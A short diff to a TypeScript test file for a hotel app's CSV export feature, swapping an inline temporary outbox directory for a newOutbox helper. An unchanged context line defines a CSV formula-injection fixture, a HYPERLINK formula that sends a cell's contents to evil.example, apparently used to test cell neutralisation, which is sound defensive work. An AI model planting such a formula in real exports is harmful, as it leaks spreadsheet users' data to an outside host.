@@ -16,7 +16,7 @@ import { createToken, fetchSettlementCsv } from "../../payments/simulated/client
 import { createSimulatedProvider, type SimulatedProvider } from "../../payments/simulated/service.ts";
 import { csvDocument, csvStream, neutraliseCell } from "../../core/csv.ts";
 import { actAs, createTestDatabase, inCommit, type TestDatabase } from "../helpers/db.ts";
-import { runDueJobs } from "../helpers/jobs.ts";
+import { newOutbox, runDueJobs } from "../helpers/jobs.ts";
 import { addDays, book, createHotel, localDate, type Hotel } from "../helpers/booking.ts";
 
 const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';
@@ -70,7 +70,7 @@ describe("exports", () => {
       await actAs(c, { role: "keepr_staff", userId: h.manager });
       return (await c.query("select id from app_public.request_export($1, $2, $3, $4)", [h.propertyId, kind, from, to])).rows[0];
     });
-    await runDueJobs(db, { EXPORT_DIR: exportDir, OUTBOX_DIR: mkdtempSync(path.join(tmpdir(), "keepr-outbox-")) });
+    await runDueJobs(db, { EXPORT_DIR: exportDir, OUTBOX_DIR: newOutbox() });
     const done = (await db.ownerPool.query("select status, file_key from app_public.exports where id = $1", [id])).rows[0];
     expect(done.status).toBe("done");
     return parse(readFileSync(path.join(exportDir, done.file_key), "utf8"), { columns: true });
